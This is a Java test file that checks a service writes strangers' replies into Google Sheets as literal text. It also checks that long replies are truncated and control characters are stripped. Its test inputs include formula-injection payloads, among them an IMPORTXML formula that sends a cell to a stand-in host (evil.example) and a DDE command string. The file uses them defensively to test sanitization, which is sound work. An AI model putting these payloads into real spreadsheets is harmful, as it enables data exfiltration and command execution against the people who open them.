package io.rowcast.sheets;

import static org.assertj.core.api.Assertions.assertThat;

import io.rowcast.conversation.ReplyListStore;
import io.rowcast.conversation.ReplyRoutes;
import io.rowcast.testing.Api;
import io.rowcast.writeback.CampaignSheet;
import io.rowcast.writeback.WriteBack;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Promise 4 at Google: whatever a stranger writes is shown as text, and the service keeps it whole. */
class StrangersTextTest {
    private final GoogleSandbox google = new GoogleSandbox();
    private final CampaignSheet campaign = new CampaignSheet(1);
    private final SheetUser user = google.sheet(campaign.rows());
    private final WriteBack writeBack = campaign.writeBack(google.open(campaign.campaigns));
    private final Api api = new Api(new ReplyRoutes(
            new ReplyListStore(campaign.campaigns.database, campaign.campaigns.sealers)));

    @AfterEach
    void close() {
        api.close();
        campaign.close();
        google.close();
    }

    private String shownAfter(String reply) {
        campaign.link(user.tab());
        CampaignSheet.mark(user);
        campaign.reply(campaign.campaign, 0, reply);
        campaign.settle(writeBack, 6);
        assertThat(campaign.unwritten()).isZero();
        return user.shown(CampaignSheet.key(0), "Reply");
    }

    private String kept() {
        Api.Answer answer = api.get(campaign.campaign.workspace(), "/v1/replies");
        assertThat(answer.status()).as(answer.body()).isEqualTo(200);
        return answer.json().path("replies").path(0).path("text").asText();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=IMPORTXML(\"https://evil.example/?\"&A1,\"//a\")",
                "=1+1",
                "+cmd|' /C calc'!A0",
                "@SUM(1+1)",
                "-2+3",
                "'quoted",
                "007",
                "TRUE",
                "1/2/2026",
                "1e5",
                "#REF!"
            })
    void what_looks_like_a_formula_or_a_value_is_shown_as_it_was_written(String reply) {
        assertThat(shownAfter(reply)).isEqualTo(reply);
        assertThat(kept()).isEqualTo(reply);
    }

    @Test
    void sixty_thousand_characters_are_cut_with_a_mark_in_the_cell_and_kept_whole() {
        String reply = "x".repeat(60_000);
        assertThat(shownAfter(reply)).hasSizeLessThan(50_000).endsWith("xxx… (shortened)");
        assertThat(kept()).isEqualTo(reply);
    }

    @Test
    void control_characters_and_direction_overrides_are_not_shown_and_kept() {
        String reply = "Yes\u0007 \u202eon\u202c\u001b[31m";
        assertThat(shownAfter(reply)).isEqualTo("Yes on[31m");
        assertThat(kept()).isEqualTo(reply);
    }
}
